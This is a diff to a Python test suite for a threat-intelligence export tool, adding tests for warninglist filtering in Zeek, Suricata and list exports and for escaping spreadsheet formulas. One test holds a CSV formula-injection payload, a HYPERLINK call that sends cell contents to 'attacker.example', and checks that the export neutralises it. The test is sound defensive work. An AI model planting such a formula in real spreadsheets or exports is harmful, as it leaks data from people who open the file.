@@ -16,8 +16,13 @@ ALL_FORMATS = [("stix", ""), ("misp", ""), ("csv", ""), ("zeek", ""), ("suricata
                ("suricata-iprep", ""), ("list", "domain")]  # fmt: skip
 
 
-def _text(actor, collection, fmt, kind=""):
-    return "".join(exporting.export_open(actor=actor, collection=collection, fmt=fmt, kind=kind).chunks)
+def _text(actor, collection, fmt, kind="", *, include_warninglisted=True):
+    """The export as text. The addresses here are documentation ranges, which MISP warninglists name:
+    tests of TLP and of formats keep them; the warninglist tests below ask for the default."""
+    job = exporting.export_open(
+        actor=actor, collection=collection, fmt=fmt, kind=kind, include_warninglisted=include_warninglisted
+    )
+    return "".join(job.chunks)
 
 
 def _seed_one_per_tlp(community):
@@ -157,3 +162,59 @@ def test_a_misp_export_too_large_for_one_event_is_refused_with_the_alternative(c
     )
     with pytest.raises(ValidationFailed, match="STIX bundle"):
         exporting.export_open(actor=community.creator, collection=community.collection, fmt="misp")
+
+
+def test_a_formula_in_an_indicator_name_reaches_csv_and_zeek_as_text(community):
+    name = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+    intel.objects_add(
+        actor=community.creator,
+        collection=community.collection,
+        objects=[indicator("formula.example", tlp=Tlp.GREEN, name=name)],
+    )
+    rows = list(csv.DictReader(io.StringIO(_text(community.creator, community.collection, "csv"))))
+    assert [row["name"] for row in rows] == ["'" + name]
+    zeek = _text(community.creator, community.collection, "zeek").splitlines()
+    assert zeek[1].split("\t")[3].startswith("'=HYPERLINK(")
+
+
+@pytest.mark.parametrize(("fmt", "kind"), [("zeek", ""), ("suricata-iprep", ""), ("list", "ip")])
+def test_blocking_exports_leave_out_warninglisted_values_unless_asked(community, fmt, kind):
+    intel.objects_add(
+        actor=community.creator,
+        collection=community.collection,
+        objects=[
+            indicator(pattern="[ipv4-addr:value = '8.8.8.8']", tlp=Tlp.GREEN),
+            indicator(pattern="[ipv4-addr:value = '91.240.118.172']", tlp=Tlp.GREEN),
+        ],
+    )
+    job = exporting.export_open(actor=community.creator, collection=community.collection, fmt=fmt, kind=kind)
+    text = "".join(job.chunks)
+    assert "91.240.118.172" in text and "8.8.8.8" not in text
+    assert job.warninglisted == 1
+    everything = exporting.export_open(
+        actor=community.creator,
+        collection=community.collection,
+        fmt=fmt,
+        kind=kind,
+        include_warninglisted=True,
+    )
+    assert "8.8.8.8" in "".join(everything.chunks) and everything.warninglisted == 0
+
+
+def test_the_export_api_says_how_many_warninglisted_values_it_left_out(community):
+    from django.test import Client
+
+    from tests.cyber.intel.test_api import bearer
+
+    intel.objects_add(
+        actor=community.creator,
+        collection=community.collection,
+        objects=[indicator(pattern="[ipv4-addr:value = '8.8.8.8']", tlp=Tlp.GREEN)],
+    )
+    response = Client().get(
+        f"/api/exchange/exports/{community.collection.alias}",
+        {"format": "suricata-iprep"},
+        headers=bearer(community.creator),
+    )
+    assert response["X-Lionrock-Warninglisted"] == "1"
+    assert b"".join(response.streaming_content) == b""
